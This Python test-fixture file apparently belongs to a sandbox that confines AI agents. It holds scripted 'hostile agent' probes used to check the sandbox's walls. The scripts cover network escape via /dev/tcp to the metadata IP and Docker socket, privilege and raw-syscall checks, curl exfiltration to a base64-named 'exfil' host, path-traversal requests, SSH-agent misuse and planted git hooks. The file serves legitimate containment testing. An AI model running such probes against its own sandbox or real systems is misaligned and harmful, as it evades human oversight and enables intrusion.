"""The scripts of hostile agents. The tests of the walls run them, and test_weakened_walls.py shows that they succeed when
a wall is weak."""

# Connects to everything that a bottle might reach. Prints a line with REACHED for each success.
TARGETS = ("$gateway $base.1 172.17.0.1 203.0.113.2 203.0.113.1 "
           "169.254.169.254 10.0.0.1 192.168.1.1 172.31.255.1 100.100.100.200 1.1.1.1 8.8.8.8 20.30.40.10 20.30.40.53")
PROBES = r"""
each() { if [ -n "$GENTLE" ]; then try "$@"; else try "$@" & fi; }
try() { timeout ${GENTLE:-4} bash -c "exec 3<>/dev/tcp/$1/$2" 2>/dev/null && echo "REACHED tcp $1 $2"; }
gateway=$(python3 -c 'import socket, struct
for line in open("/proc/net/route").read().splitlines()[1:]:
    if line.split()[1] == "00000000": print(socket.inet_ntoa(struct.pack("<L", int(line.split()[2], 16))))' | head -n 1)
guard=${https_proxy#http://}; guard=${guard%%:*}
own=$(python3 -c 'import socket, sys
s = socket.create_connection((sys.argv[1], 3128), 60); print(s.getsockname()[0])' "$guard")
base=${own%.*}
echo "own $own gateway $gateway"
for to in TARGETS; do
  for port in $PORTS; do each $to $port; done
  for port in 53 443 123; do echo probe > /dev/udp/$to/$port; done 2>/dev/null
  wait
done
for to in 2606:4700:4700::1111 fe80::1%eth0 fd00:ec2::254 2001:db8:113::1; do each $to 80; done; wait
for to in $NEIGHBORS; do for port in $PORTS; do
  [ "$base.$to:$port" = "$guard:53" ] || each $base.$to $port  # the guard answers the bottle's own names there
done; done; wait
getent hosts forbidden.example.net && echo "REACHED dns forbidden"
getent hosts allowed.example.org && echo "REACHED dns allowed"
timeout 5 bash -c 'exec 3<>/dev/tcp/127.0.0.11/53' 2>/dev/null && echo "note: engine DNS answers over TCP"
for path in /var/run/docker.sock /run/docker.sock; do test ! -e $path || echo "REACHED engine socket"; done
true
""".replace("TARGETS", TARGETS)

# Tries what only a privileged process may do.
PRIVILEGES = r"""
grep -E 'Cap(Eff|Prm|Bnd|Amb)' /proc/self/status
grep NoNewPrivs /proc/self/status
id -u
python3 -c 'import socket; socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 3)' 2>/dev/null && echo "REACHED packet socket"
python3 -c 'import socket; socket.socket(socket.AF_INET, socket.SOCK_RAW, 1)' 2>/dev/null && echo "REACHED raw socket"
python3 -c 'import socket, fcntl, struct
s = socket.socket(); fcntl.ioctl(s, 0x8914, struct.pack("16sH14x", b"eth0", 0))' 2>/dev/null && echo "REACHED interface flags"
mount -t tmpfs none /mnt 2>/dev/null && echo "REACHED mount"
sudo -n true 2>/dev/null && echo "REACHED sudo"
echo 1 > /proc/sys/net/ipv4/ip_forward 2>/dev/null && echo "REACHED sysctl"
unshare -Urn true 2>/dev/null && echo "note: user namespaces"
true
"""

LIMITS = {"memory": "head -c 600m /dev/zero | tail | wc -c; echo survived",
          "pids": "for i in $(seq 200); do sleep 5 & done 2>/dev/null; ls -d /proc/[0-9]* | wc -l; kill $(jobs -p) 2>/dev/null; true"}

FORBIDDEN_NAME = "c2VjcmV0.exfil.example.net"
ASK_FOR_IT = "curl -sS -m 10 https://{0}/; curl -sS -m 10 http://{0}/; getent hosts {0}; curl --noproxy '*' -sS -m 10 https://{0}/; true".format(FORBIDDEN_NAME)
OTHER_METHODS_AND_PATHS = (
    "for a in '-X GET https://inspected.example.org/ok/a' '-X POST https://inspected.example.org/ok/b' 'https://inspected.example.org/no' "
    "'--path-as-is https://inspected.example.org/ok/../no' 'https://inspected.example.org/ok/%2e%2e/no'; do "
    "curl -sS -m 60 -o /dev/null -w '%{http_code}\\n' $a; done")

# Prints one line per call: its name and its result.
CALLS = r"""
import ctypes, errno, socket
libc = ctypes.CDLL(None, use_errno=True)
def tell(name, result):
    print(name, "REACHED" if result >= 0 else errno.errorcode[ctypes.get_errno()])
def call(name, number, *args):
    ctypes.set_errno(0)
    tell(name, libc.syscall(ctypes.c_long(number), *[ctypes.c_long(a) for a in args]))
def sock(name, family, kind=1, protocol=0):
    ctypes.set_errno(0)
    tell(name, libc.socket(family, kind, protocol))
machine = __import__("os").uname().machine
numbers = {"io_uring_setup": 425, "io_uring_enter": 426, "io_uring_register": 427, "open_tree": 428, "move_mount": 429, "fsopen": 430, "clone3": 435}
numbers.update({"keyctl": 250, "add_key": 248, "request_key": 249, "userfaultfd": 323, "bpf": 321, "perf_event_open": 298, "unshare": 272, "setns": 308,
                "modify_ldt": 154, "remap_file_pages": 216} if machine == "x86_64" else
               {"keyctl": 219, "add_key": 217, "request_key": 218, "userfaultfd": 282, "bpf": 280, "perf_event_open": 241, "unshare": 97, "setns": 268,
                "remap_file_pages": 234})
arguments = {"keyctl": (0, -3, 0), "unshare": (0x10000000,), "modify_ldt": (0, 0, 0)}
for name, number in numbers.items():
    call(name, number, *arguments.get(name, (0, 0, 0, 0, 0)))
for name, family, kind, protocol in [("vsock", 40, 1, 0), ("vsock_dgram", 40, 2, 0), ("alg", 38, 5, 0), ("packet", 17, 3, 3), ("netlink_audit", 16, 3, 9),
                                     ("netlink_netfilter", 16, 3, 12), ("netlink_xfrm", 16, 3, 6), ("key", 15, 3, 2), ("bluetooth", 31, 3, 1), ("can", 29, 3, 1),
                                     ("tipc", 30, 1, 0), ("xdp", 44, 3, 0), ("rds", 21, 5, 0), ("kcm", 41, 2, 0), ("qipcrtr", 42, 2, 0), ("smc", 43, 1, 0), ("sctp", 2, 1, 132), ("mptcp", 2, 1, 262),
                                     ("dccp", 2, 6, 0), ("l2tp", 2, 2, 115), ("raw", 2, 3, 1)]:
    sock(name, family, kind, protocol)
for name, family in [("unix", 1), ("inet", 2), ("inet6", 10)]:
    sock(name, family)
sock("netlink_route", 16, 3, 0)
"""


def told(out):
    return dict(line.split() for line in out.splitlines() if len(line.split()) == 2)


# An endpoint that echoes what it was sent, as JSON.
ECHO = 'curl -sS -m 20 -w " %%{http_code}\\n" %s https://inspected.example.org/echo; '
ECHOES = (ECHO % '-u "me:$MINE"' + ECHO % '-H "Authorization: Bearer $MINE"' + ECHO % '-H "X-Trace: Basic $(printf "%szz" "$MINE" | base64 -w0)"' +
          ECHO % '-H "Content-Type: application/json" -d "{\\"key\\":\\"$MINE\\"}"' + ECHO % '-d hello')

FIRST = "/run/bottle/ssh-git.example.org.pub"
OTHER_REQUESTS = (
    "echo data > /tmp/d; ssh-keygen -Y sign -n git -f %s /tmp/d; echo \"sign $?\"; "
    "ssh-add -D; echo \"delete $?\"; ssh-add -x </dev/null; ssh-add -T %s; echo \"test $?\"; " % (FIRST, FIRST))

PLANT_COMMANDS = ("cd /workspace && mkdir -p .git/hooks && echo 'touch /tmp/owned' > .git/hooks/post-checkout && chmod +x .git/hooks/post-checkout && "
                  "git config core.fsmonitor 'touch /tmp/owned2' && ln -s /etc/passwd link && echo x > f && git add -A && git -c user.name=a -c user.email=a@b.invalid commit -qm x")
